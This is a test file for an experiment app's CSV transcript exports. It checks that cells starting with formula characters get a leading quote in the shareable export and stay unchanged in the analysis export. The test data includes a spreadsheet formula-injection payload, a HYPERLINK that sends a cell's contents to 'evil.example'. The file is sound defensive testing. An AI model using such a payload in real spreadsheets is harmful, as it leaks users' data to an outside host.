import { beforeAll, describe, expect, it } from 'vitest';
import { createAndLogin, useTestApp, type TestUser } from '../../../test/app.js';
import { TEST_DIALECTS } from '../../../test/databases.js';
import { insertExperimentRow, seedParticipant } from '../../../test/factories.js';
import { csvObjects } from './parse-csv.testing.js';

// The shareable transcripts are a CSV for people to open, often in a spreadsheet: text that would run there as a
// formula gets a leading `'`, as in the .xlsx copy; the analysis files keep it exactly (docs/decisions/0035, 0074).

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click for your code")',
  '+SUM(1,2)',
  '-2+3 is what I got',
  '@SUM(A1:A9)',
  '\t=1+1',
];

describe.each(TEST_DIALECTS)('formulas in the shareable transcripts, on %s', (dialect) => {
  const t = useTestApp(dialect);
  let admin: TestUser;
  let experimentId: string;

  beforeAll(async () => {
    admin = await createAndLogin(t(), { isAdmin: true });
    const db = t().database.db;
    experimentId = (await insertExperimentRow(db)).id;
    await seedParticipant(db, experimentId, {
      assignment: { prolific_pid: 'PID-FORMULA', assigned_condition: 'mmr', consent_given: true },
      chat: [
        { role: 'assistant', content: 'Hello' },
        ...FORMULAS.map((content) => ({ role: 'user' as const, content })),
        { role: 'assistant', content: '= a reply that starts like one' },
        { role: 'user', content: "'=already quoted" },
      ],
    });
  });

  const download = (path: string) =>
    t().app.inject({ method: 'GET', url: `/api/experiments/${experimentId}/${path}`, headers: admin.headers });

  it('prefixes text a spreadsheet would run with a quote, and leaves other text as it is', async () => {
    const res = await download('export-transcripts');
    expect(res.statusCode).toBe(200);
    expect(csvObjects(res.body).map((r) => r.text)).toEqual([
      'Hello',
      ...FORMULAS.map((text) => `'${text}`),
      "'= a reply that starts like one",
      "'=already quoted",
    ]);
  });

  it('keeps the analysis CSV exact: the same messages as stored', async () => {
    const res = await download('export/messages.csv');
    expect(res.statusCode).toBe(200);
    const texts = csvObjects(res.body).map((r) => r.content);
    expect(texts).toEqual(expect.arrayContaining([...FORMULAS, "'=already quoted"]));
  });
});
